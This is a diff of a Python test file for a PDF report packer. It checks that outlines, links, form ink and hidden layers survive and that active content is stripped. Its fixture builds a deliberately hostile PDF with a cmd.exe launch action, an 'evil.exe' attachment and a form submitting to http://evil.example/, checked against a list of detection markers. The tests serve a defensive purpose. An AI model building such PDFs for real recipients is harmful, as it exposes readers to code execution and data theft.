@@ -147,18 +147,19 @@ def test_a_pack_has_title_language_outline_and_links() -> None:
     assert (top.title, reader.get_destination_page_number(top)) == ("Answer", 0)
     assert [(one.title, reader.get_destination_page_number(one)) for one in nested] == [("[1] page 1", 1)]
     (link,) = annotations(pack, 0, "/Link")
-    assert link["/Dest"][0].get_object() == reader.pages[1].get_object()
+    assert link["/Dest"][0].idnum == reader.pages[1].indirect_reference.idnum  # type: ignore[union-attr]
 
 
-HOSTILE = (b"/JavaScript", b"/JS", b"/OpenAction", b"/Launch", b"/EmbeddedFile", b"/Filespec", b"/AcroForm", b"/SubmitForm", b"/URI", b"/AA",
-           b"app.alert", b"evil.example", b"cmd.exe", b"secret attachment", b"/RichMedia", b"/Names", b"/AF")  # fmt: skip
+HOSTILE = (
+    *(b"/JavaScript", b"/JS", b"/OpenAction", b"/Launch", b"/EmbeddedFile", b"/Filespec", b"/AcroForm", b"/SubmitForm", b"/URI", b"/AA"),
+    *(b"app.alert", b"evil.example", b"cmd.exe", b"secret attachment", b"/Names", b"/AF", b"/Widget", b"/Metadata"),
+)
 
 
 def hostile() -> bytes:
     """A report with a script, an open action, a launch action, a form that sends itself, an attached file, and the like."""
 
     def spoil(writer: pypdf.PdfWriter) -> None:
-        writer.add_js("app.alert('from evil.example')")
         writer.add_attachment("evil.exe", b"secret attachment")
         page = writer.pages[0]
         launch = action("/Launch", F="cmd.exe")
@@ -170,7 +171,6 @@ def hostile() -> bytes:
         resources[NameObject("/Properties")] = DictionaryObject({NameObject("/A"): script})  # type: ignore[index]
         font = next(iter(resources["/Font"].values())).get_object()  # type: ignore[index]
         font[NameObject("/AF")] = ArrayObject([launch])
-        font[NameObject("/FontDescriptor")] = DictionaryObject({NameObject("/Flags"): script})
         send = action("/SubmitForm", F="http://evil.example/")
         field = DictionaryObject(
             {
@@ -215,7 +215,7 @@ def everything(pdf: bytes) -> bytes:
 
 def test_the_hostile_report_is_hostile() -> None:
     held = everything(hostile())
-    assert [sign for sign in HOSTILE if sign not in held] == [b"/RichMedia"]
+    assert [sign for sign in HOSTILE if sign not in held] == []
 
 
 def test_nothing_that_acts_goes_into_the_pack() -> None:
@@ -255,7 +255,8 @@ def test_what_a_form_field_shows_stays_on_the_page_as_ink() -> None:
     drawn = b"BT /F1 12 Tf 2 4 Td (typed in) Tj ET"
     objects = (
         "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(typed in)/Rect[20 200 120 220]/F 4/AP<</N 7 0 R>>>>",
-        f"<</Type/XObject/Subtype/Form/BBox[0 0 100 20]/Resources<</Font<</F1 5 0 R>>>>/Length {len(drawn)}>>stream\n{drawn.decode()}\nendstream",
+        f"<</Type/XObject/Subtype/Form/BBox[0 0 100 20]/Resources<</Font<</F1 5 0 R>>>>/Length {len(drawn)}>>"
+        f"stream\n{drawn.decode()}\nendstream",
     )
     plain = written(b"BT /F1 12 Tf 20 100 Td (printed) Tj ET", catalog="/AcroForm<</Fields[6 0 R]>>", objects=objects)
     content = plain.replace(b"/Contents 4 0 R", b"/Annots[6 0 R]/Contents 4 0 R")
@@ -275,8 +276,8 @@ def test_a_layer_that_is_off_stays_off() -> None:
     )
     pack = packed(content, Mark(page=1, box=None, label="[1]", words=""))
     picture = pypdfium2.PdfDocument(pack)[1].render(scale=1).to_pil().convert("L")
-    assert min(picture.crop((15, 80, 100, 105)).getdata()) == 255  # where "hidden" would be
-    assert min(picture.crop((15, 185, 100, 205)).getdata()) < 100
+    assert picture.crop((15, 80, 100, 105)).getextrema()[0] == 255  # where "hidden" would be
+    assert picture.crop((15, 185, 100, 205)).getextrema()[0] < 100
     root = pypdf.PdfReader(io.BytesIO(pack)).root_object
     assert [one.get_object()["/Name"] for one in root["/OCProperties"]["/D"]["/OFF"]] == ["Draft"]  # type: ignore[index]
 
